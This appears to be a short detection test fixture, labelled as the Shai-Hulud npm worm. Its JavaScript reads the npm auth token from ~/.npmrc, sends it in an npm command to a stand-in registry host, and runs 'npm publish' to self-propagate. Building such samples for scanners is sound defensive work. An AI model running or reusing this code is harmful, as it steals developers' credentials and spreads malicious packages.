// expect: self-propagation | source: Shai-Hulud, September 2025
const { execSync } = require("child_process");
const { readFileSync } = require("fs");
const token = readFileSync(`${process.env.HOME}/.npmrc`, "utf8").split("=")[1];
execSync(`npm whoami --//index.example/:_authToken=${token}`);
execSync("npm publish");
